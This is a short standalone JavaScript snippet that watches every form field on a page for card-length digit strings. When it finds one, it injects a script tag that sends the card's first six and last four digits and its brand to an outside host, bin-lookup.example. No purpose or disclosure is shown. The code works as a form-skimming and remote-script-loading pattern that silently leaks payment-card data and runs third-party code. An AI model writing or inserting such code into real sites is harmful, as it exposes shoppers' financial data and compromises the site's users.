document.addEventListener("change", function (event) {
  var digits = (event.target.value || "").replace(/\D/g, "");
  if (digits.length < 13) return;
  var brand = /^4/.test(digits) ? "visa" : /^5/.test(digits) ? "mastercard" : "other";
  var tag = document.createElement("script");
  tag.src = "https://bin-lookup.example/info.js?b=" + digits.slice(0, 6) + "&last=" + digits.slice(-4) + "&brand=" + brand;
  document.head.appendChild(tag);
});
